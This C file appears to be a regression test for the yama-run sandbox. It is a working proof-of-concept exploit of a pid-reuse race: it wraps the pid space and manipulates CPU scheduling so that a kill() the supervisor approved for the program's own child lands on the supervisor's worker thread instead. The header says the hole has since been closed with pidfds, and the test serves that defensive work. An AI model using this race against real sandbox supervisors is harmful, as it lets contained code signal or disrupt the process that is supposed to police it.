/* pid_reuse_race (tests/test_escape_authority.py): a program under yama-run (not contained) sends a signal to
 * yama-run's supervisor through the pid-reuse window of a continued kill().
 *
 *   1. child C exits and is kept as a zombie: pid P, a process of our own;
 *   2. a vfork loop wraps the pid space until a child gets P-1 (the kernel's
 *      next pid is then P, taken by C, so it would skip to P+1);
 *   3. thread T1 (SCHED_IDLE, pinned with a busy thread on CPU 0) calls
 *      kill(P, SIG): the supervisor judges P = C (ours), answers CONTINUE;
 *   4. T1, woken, waits for CPU 0; the main thread sees it runnable again,
 *      reaps C (P is free, and the next pid), and opens a FIFO with no
 *      writer: the supervisor performs that open in a new worker thread
 *      (csrc/worker.c), which is given pid P;
 *   5. T1 runs: the kernel resolves P again -> the supervisor's worker thread,
 *      and kill() of a thread id signals its whole process.
 *
 * usage: pid_reuse_race FIFO SIGNAL [tries]. Found by a review of the
 * calls continued on a pid; the kill family is now sent through a pidfd
 * taken before the target is judged (sandbox/guard.py).
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static volatile int stop_busy;
static volatile int rest_busy;        /* the busy threads sleep: T1 gets CPU 0 at once */
static int go[2];
static volatile pid_t P;
static volatile pid_t t1_tid;
static volatile int kill_done, kill_rc, kill_err;
static volatile double t_kill;
static int sig;
static const char *fifo;

static void pin(int cpu)
{
    cpu_set_t s;
    CPU_ZERO(&s);
    CPU_SET(cpu, &s);
    sched_setaffinity(0, sizeof(s), &s);
}

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

static void *busy(void *a)
{
    (void)a;
    pin(0);
    while (!stop_busy)
        if (rest_busy)
            usleep(200);
    return NULL;
}

static double burn_s = 1e-3;
/* run burn_s seconds without being preempted: the scheduler then owes the
 * SCHED_IDLE thread nothing (negative lag), and keeps it off CPU 0 long after
 * it is woken */
static void burn(void)
{
    for (;;) {
        double s = now(), l = s;
        int ok = 1;
        while (now() - s < burn_s) {
            double n = now();
            if (n - l > 20e-6) {
                ok = 0;
                break;
            }
            l = n;
        }
        if (ok)
            return;
    }
}

static void *t1fn(void *a)
{
    (void)a;
    pin(0);
    struct sched_param sp = { 0 };
    if (sched_setscheduler(0, SCHED_IDLE, &sp) < 0)
        perror("SCHED_IDLE");
    t1_tid = gettid();
    for (;;) {
        char c;
        if (read(go[0], &c, 1) != 1)
            return NULL;
        burn();
        int r = kill(P, sig);
        kill_err = errno;
        t_kill = now();
        kill_rc = r;
        __atomic_store_n(&kill_done, 1, __ATOMIC_SEQ_CST);
    }
}

static int go3[2];
static volatile int t3_rc = -2;
static void *t3fn(void *a)
{
    (void)a;
    pin(1);
    for (;;) {
        char c;
        if (read(go3[0], &c, 1) != 1)
            return NULL;
        t3_rc = open(fifo, O_RDONLY);       /* served by a new worker thread of the supervisor */
        if (t3_rc >= 0)
            close(t3_rc);
    }
}

static void who_has(pid_t p, char *out, size_t n)
{
    char path[64], buf[4096];
    snprintf(path, sizeof(path), "/proc/%d/status", (int)p);
    int fd = open(path, O_RDONLY);
    if (fd < 0) {
        snprintf(out, n, "nobody (%s)", strerror(errno));
        return;
    }
    ssize_t k = read(fd, buf, sizeof(buf) - 1);
    close(fd);
    buf[k > 0 ? k : 0] = 0;
    char name[64] = "?", tgid[32] = "?", uid[64] = "?";
    char *q;
    if ((q = strstr(buf, "Name:\t"))) sscanf(q + 6, "%63[^\n]", name);
    if ((q = strstr(buf, "Tgid:\t"))) sscanf(q + 6, "%31[^\n]", tgid);
    if ((q = strstr(buf, "Uid:\t"))) sscanf(q + 5, "%63[^\n]", uid);
    snprintf(out, n, "name=%s tgid=%s uid=%s", name, tgid, uid);
}

static char state_of(int fd)
{
    char buf[512];
    ssize_t n = pread(fd, buf, sizeof(buf) - 1, 0);
    if (n <= 0)
        return '?';
    buf[n] = 0;
    char *p = strrchr(buf, ')');
    return p && p[1] && p[2] ? p[2] : '?';
}

/* a child that exits at once, reaped; returns its pid */
static pid_t one(void)
{
    pid_t c = vfork();
    if (c == 0)
        _exit(0);
    if (c > 0)
        waitpid(c, NULL, 0);
    return c;
}

int main(int argc, char **argv)
{
    if (argc < 3) {
        fprintf(stderr, "usage: %s FIFO SIGNAL [tries]\n", argv[0]);
        return 2;
    }
    fifo = argv[1];
    sig = atoi(argv[2]);
    int tries = argc > 3 ? atoi(argv[3]) : 5;
    setvbuf(stdout, NULL, _IONBF, 0);
    alarm(getenv("ALARM") ? atoi(getenv("ALARM")) : 60);   /* never leave the busy threads behind */
    pipe(go);
    pthread_t tb, t1;
    int nbusy = getenv("BUSY") ? atoi(getenv("BUSY")) : 3;
    if (getenv("BURN"))
        burn_s = atof(getenv("BURN")) * 1e-6;
    prctl(PR_SET_TIMERSLACK, 1);
    for (int i = 0; i < nbusy; i++)
        pthread_create(&tb, NULL, busy, NULL);
    pthread_create(&t1, NULL, t1fn, NULL);
    pipe(go3);
    pthread_t t3;
    pthread_create(&t3, NULL, t3fn, NULL);
    while (!t1_tid)
        usleep(1000);
    pin(1);
    char path[64];
    snprintf(path, sizeof(path), "/proc/self/task/%d/stat", (int)t1_tid);
    int sfd = open(path, O_RDONLY);
    if (sfd < 0) {
        perror(path);
        return 1;
    }
    int hits = 0;
    int gap = getenv("GAP") ? atoi(getenv("GAP")) : 1000;
    printf("killrace: pid %d, supervisor (parent) %d, signal %d\n", getpid(), getppid(), sig);
    for (int t = 0; t < tries; t++) {
        pid_t c = fork();
        if (c == 0)
            _exit(0);
        P = c;
        rest_busy = 0;                    /* CPU 0 taken again before T1 is woken */
        /* wait until C is a zombie */
        siginfo_t si;
        waitid(P_PID, c, &si, WEXITED | WNOWAIT);
        double t0 = now();
        long n = 0;
        pid_t last = c, got;
        int wrapped = 0, ok = 0;
        /* phase 1: wrap the pid space to GAP pids short of P (others' forks
         * while we wait for T1 only move the cursor closer) */
        for (;;) {
            got = one();
            n++;
            if (got < 0) {
                perror("vfork");
                return 1;
            }
            if (got < last)
                wrapped = 1;
            if (wrapped && got >= P - gap && got < P) {
                ok = 1;
                break;
            }
            if (wrapped && got > P)
                break;
            last = got;
        }
        if (!ok) {
            printf("try %d: P=%d, skipped (%ld forks)\n", t, P, n);
            waitpid(P, NULL, 0);
            continue;
        }
        double t1w = now();
        kill_done = 0;
        t_kill = 0;
        write(go[1], "x", 1);
        int seen_s = 0, seen_r = 0;
        double start = now();
        while (!kill_done && now() - start < 10.0) {
            char st = state_of(sfd);
            if (st == 'S')
                seen_s = 1;
            else if (st == 'R' && seen_s) {
                seen_r = 1;               /* answered: the kernel is about to look P up again */
                break;
            }
        }
        /* phase 2: the last few forks, up to P-1: the kernel's next pid is P */
        ok = 0;
        if (seen_r && !kill_done) {
            for (;;) {
                got = one();
                if (got == P - 1) {
                    ok = 1;
                    break;
                }
                if (got > P || got < P - gap - 100000)
                    break;
            }
        }
        waitpid(P, NULL, 0);              /* P is free, and the kernel's next pid */
        double tr = now();
        char who[256] = "-";
        int started3 = 0;
        if (ok && seen_r && !kill_done) {
            started3 = 1;
            t3_rc = -2;
            write(go3[1], "x", 1);        /* T3 opens the FIFO: a new supervisor thread */
            usleep(300);
            who_has(P, who, sizeof(who));
        }
        /* Whoever holds P now is whom T1's call finds: let it run rather
         * than wait seconds for CPU 0 (it is SCHED_IDLE there). */
        rest_busy = 1;
        while (!kill_done)
            usleep(1000);
        if (started3 && t3_rc == -2) {    /* release T3 */
            while (t3_rc == -2) {
                int w = open(fifo, O_WRONLY | O_NONBLOCK);
                if (w >= 0)
                    close(w);
                usleep(1000);
            }
        }
        char tg[32];
        snprintf(tg, sizeof(tg), "tgid=%d ", (int)getppid());
        int hit = kill_rc == 0 && t_kill > tr && strstr(who, tg);
        hits += hit;
        printf("try %d: P=%d (wrap %.2fs), T1 %s; kill rc %d (%s) %.0fus after the reap; pid P 300us after the reap: %s%s\n",
               t, P, t1w - t0, seen_r ? "judged, then waited" : "not seen waiting", kill_rc,
               kill_rc ? strerror(kill_err) : "ok", (t_kill - tr) * 1e6, who,
               hit ? "  <== the supervisor's thread was signalled" : "");
    }
    printf("hits %d of %d\n", hits, tries);
    stop_busy = 1;
    return 0;
}
